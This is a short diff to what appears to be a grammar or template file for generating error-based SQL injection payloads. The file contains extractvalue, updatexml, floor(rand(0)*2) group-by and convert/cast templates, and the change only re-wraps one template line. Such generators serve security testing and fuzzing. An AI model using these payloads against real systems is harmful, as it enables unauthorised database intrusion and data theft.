@@ -254,7 +254,8 @@ blind
 error
     and«_»extractvalue(«n»,concat(0x«hex:2»,(select«_»«column»«source»)))
     and«_»updatexml(«n»,concat(0x7e,(select«_»«column»),0x7e),«n»)
-    or«_»(select«_»«n»«_»from(select«_»count(*),concat((select«_»«column»),floor(rand(0)*2))x«source»«_»group«_»by«_»x)a)
+    or«_»(select«_»«n»«_»from(select«_»count(*),concat((select«_»«column»),floor(rand(0)*2))x«source»«_»group«_»by«»
+    «_»x)a)
     and«_»«n»=convert(int,(select«_»«column»))
     and«_»«n»=convert(int,@@version)
     and«_»«n»=cast((select«_»«column»)«_»as«_»int)
